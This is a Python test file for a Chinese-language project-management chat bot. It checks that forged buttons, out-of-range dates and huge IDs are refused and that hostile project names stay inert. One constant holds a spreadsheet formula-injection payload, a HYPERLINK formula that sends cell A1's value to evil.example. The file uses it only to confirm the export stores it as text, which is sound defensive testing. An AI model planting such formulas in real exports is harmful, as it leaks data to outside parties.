"""Issue 10, "What was seen" 4: forged buttons, bad typed values and hostile names are
refused or made harmless — never an exception, never a value stored."""

from __future__ import annotations

import io
import logging

from services.walk import projects
from tests.conversation.conftest import new_project

SORRY = "出了点问题"


def _errors(caplog) -> list[str]:
    return [r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR]


async def test_forged_buttons_outside_the_walk_are_refused(bot, member, caplog):
    admin = bot.chat(1, "管理员")
    await admin.send("/editorg 1")
    for chat, data in ((member, "sub:h:bogus"), (member, "sub:p:99999999999999999999"),
                       (member, "lang:fr"), (member, "rm:maybe"), (member, "a:fb:1:7"),
                       (admin, "rv:open:99999999999999999999"),
                       (admin, "og:f:99999999999999999999:name"), (admin, "og:d:99"),
                       (admin, "og:f:1:uscc"), (admin, ""), (member, "")):
        await chat.send("/subsidy")
        caplog.clear()
        before = len(bot.fake.callback_answers)
        await chat.press_forged(data)
        answers = [a.get("text") or "" for a in bot.fake.callback_answers[before:]]
        assert any("按钮已失效" in a for a in answers), (data, answers, chat.replies)
        assert not any(SORRY in r for r in chat.replies), data
        assert _errors(caplog) == [], data
    await admin.send("新名字")  # no correction was waiting: a question, not a new name
    await admin.send("/editorg 1")
    assert "青岛海都心理健康服务中心" in admin.last_text


async def test_typed_values_out_of_range_are_refused(bot, member, caplog):
    admin = bot.chat(1, "管理员")
    await admin.send(f"/start {bot.invite}")
    caplog.clear()
    for text in ("/newround 测试 city 2026 0001-01-01 2026-12-15 17:00 2026-12-20",
                 "/newround 测试 city 2026 2026-11-01 0001-01-01 05:00 2026-12-20",
                 "/newround 测试 city 2026 2026-11-01 9999-12-31 23:59 2026-12-20"):
        await admin.send(text)
        assert "不在 1950–2100 年之间" in admin.last_text, text
    await admin.send("/newround 测试 city 2026 2026-11-01 2026-12-15 17:00 2026-12-20")
    assert "已创建评选轮次 #1" in admin.last_text
    for text, told in (("/extend 1 1 0001-01-01 05:00", "不在 1950–2100 年之间"),
                       ("/extend 1 1 2026-12-01 10:00", "延期只能晚于原截止时间"),
                       ("/extend 99999999999999999999 1 2026-12-30 10:00", "不是有效的编号"),
                       ("/deadline 1 0001-01-01 05:00", "不在 1950–2100 年之间"),
                       ("/editorg 1 established 0001-01-01", "不在 1950–2100 年之间"),
                       ("/editorg 1 established 2030-01-01", "还没到"),
                       ("/editorg 99999999999999999999 name x", "不是有效的编号"),
                       ("/editorg 1 name " + "名" * 300, "最多200个字"),
                       ("/honour 99999999999999999999 city", "不是有效的编号")):
        await admin.send(text)
        assert told in admin.last_text, (text, admin.replies)
        assert not any(SORRY in r for r in admin.replies), text
    assert _errors(caplog) == []
    await admin.send("/rounds")
    assert "2026-12-15 17:00" in admin.last_text
    await admin.send("/editorg 1")
    assert "成立 2019-05-10" in admin.last_text and "名名名" not in admin.last_text
    await admin.send("/extend 1 1 2026-12-20 10:00")
    assert "延期至 2026-12-20 10:00" in admin.last_text


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


async def test_hostile_names_stay_text_in_the_workbook_the_chart_and_html(bot, member):
    from openpyxl import load_workbook

    await new_project(member, HOSTILE)
    await member.send("/submit")
    await member.press("➕ 新建项目")
    await new_project(member, "<b>职工</b>$_$服务项目&amp;")
    await member.send("/score")
    texts = member.replies
    assert any("<b>职工</b>$_$服务项目&amp;" in t for t in texts)  # shown as typed
    assert len(member.photos_since) == 2  # both charts drawn, later replies not hidden
    await projects.submit(bot.svc, 1001, 1)  # the ranking workbook holds submitted ones
    admin = bot.chat(1, "管理员")
    await admin.send("/export 全部")
    [doc] = admin.documents_since
    sheet = load_workbook(io.BytesIO(doc.file)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == HOSTILE]
    assert cells and all(c.data_type == "s" for c in cells)  # text, not a live formula


async def test_an_id_too_large_for_the_database_gets_the_usage_not_an_apology(bot):
    admin = bot.chat(1, "管理员")
    huge = "9" * 20
    for command in (f"/decide {huge}", f"/dossier {huge}", f"/ledger {huge}",
                    f"/pay {huge} 100", f"/history {huge}"):
        await admin.send(command)
        assert len(admin.replies) == 1, command
        assert "出了点问题" not in admin.last_text and "项目" in admin.last_text, (
            command, admin.last_text)
        assert command.split()[0] in admin.last_text, admin.last_text  # how it is used
